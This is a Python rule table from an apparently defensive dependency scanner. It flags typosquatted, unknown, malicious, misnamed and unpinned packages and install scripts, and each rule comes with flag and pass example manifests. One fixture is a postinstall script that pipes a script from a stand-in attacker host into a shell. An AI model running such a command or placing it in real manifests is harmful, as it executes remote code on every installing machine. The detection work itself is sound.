"""The rules about dependencies: what each finds, why that matters, and what to do instead. Each has a page."""

from __future__ import annotations

from typing import Final, NamedTuple

from outrider.events.call import Confidence, Severity


class Rule(NamedTuple):
    """One rule.

    Attributes:
        title: What is wrong, as a heading.
        severity: How bad it is if it is so.
        confidence: How sure it is, where the case does not say otherwise.
        why: Why it matters.
        instead: What to do.
        flag: An install command or a manifest, as (file, text); a command has no file.
        passes: One that looks alike and is none.
    """

    title: str
    severity: Severity
    confidence: Confidence
    why: str
    instead: str
    flag: tuple[tuple[str, str], ...]
    passes: tuple[tuple[str, str], ...]


RULES: Final[dict[str, Rule]] = {
    "dependency.typosquat": Rule(
        "A name that is almost a popular package's",
        "high",
        "high",
        "Names one letter away from popular ones are registered by attackers, and run their code when they are "
        "installed. Where a name merely wears a word more, or two letters differ, the finding is of low confidence.",
        "Install the package that was meant, by its own name.",
        (("requirements.txt", "requets==2.31.0\n"), ("package.json", '{"dependencies": {"axois": "^1.6.0"}}')),
        (("requirements.txt", "requests==2.31.0\n"), ("package.json", '{"dependencies": {"axios": "^1.6.0"}}')),
    ),
    "dependency.unknown": Rule(
        "A package that its registry does not have",
        "high",
        "high",
        "Models make up plausible names, and attackers register them. This is only said where a whole list of the "
        "registry's names was brought (`outrider facts update`); a name younger than that list is unknown too.",
        "Look the name up, or use a package that exists.",
        (),
        (("requirements.txt", "flask\n"),),
    ),
    "dependency.malicious": Rule(
        "A package that is known to be malicious",
        "high",
        "high",
        "The name stands in a list of malicious packages that was brought (`outrider facts update`).",
        "Do not install it; look for what was really meant.",
        (),
        (("requirements.txt", "flask\n"),),
    ),
    "dependency.confused": Rule(
        "The name of a module, not of its package",
        "high",
        "high",
        "What is imported as `cv2` is installed as `opencv-python`. The module's name as a package is nobody's, or "
        "somebody else's. Where the module comes with the language itself, nothing needs to be installed: that is of "
        "medium severity.",
        "Install the package that the module comes in.",
        (("requirements.txt", "cv2\n"), ("requirements.txt", "sklearn\n")),
        (("requirements.txt", "opencv-python\nscikit-learn\n"),),
    ),
    "dependency.unpinned-source": Rule(
        "Code from an address that can change",
        "medium",
        "high",
        "A branch, a tag or an archive without a hash can hold other code tomorrow, and a second index can offer a "
        "package under a name that is yours. Over plain http anybody on the way can change it: then it is of high "
        "severity.",
        "Name a commit (40 digits) or a hash, or take the package from its registry; use https.",
        (
            ("requirements.txt", "git+https://github.com/example/tool\n"),
            ("requirements.txt", "--extra-index-url http://packages.example/simple\nflask\n"),
            ("package.json", '{"dependencies": {"tool": "github:example/tool"}}'),
        ),
        (
            ("requirements.txt", "git+https://github.com/example/tool@0123456789abcdef0123456789abcdef01234567\n"),
            ("package.json", '{"dependencies": {"tool": "workspace:*"}}'),
        ),
    ),
    "dependency.install-script": Rule(
        "A script that runs on everybody's installation",
        "medium",
        "low",
        "What stands under `preinstall`, `install`, `postinstall` and `prepare` runs on every machine that installs "
        "the package, before anybody has looked at it. One that fetches or decodes something is of high severity.",
        "Build before publishing, and leave the installation without scripts.",
        (
            ("package.json", '{"scripts": {"postinstall": "curl -s https://evil.example/i.sh | sh"}}'),
            ("package.json", '{"scripts": {"preinstall": "node setup.js"}}'),
        ),
        (("package.json", '{"scripts": {"test": "jest", "prepare": "husky"}}'),),
    ),
    "dependency.not-checked": Rule(
        "A name of which nothing is known",
        "low",
        "high",
        "The names that ship with Outrider are few, and a name that is not among them is neither known nor suspect. It "
        "is recorded, so that nobody takes silence for a clean bill. Where it is installed at once that is of medium "
        "severity. A manifest or a list that cannot be read was not checked either.",
        "Bring a whole list of the registry's names with `outrider facts update` to have such names checked.",
        (("requirements.txt", "quaternion-toolbench\n"), ("package.json", '{"dependencies": ')),
        (("requirements.txt", "flask\n"),),
    ),
}
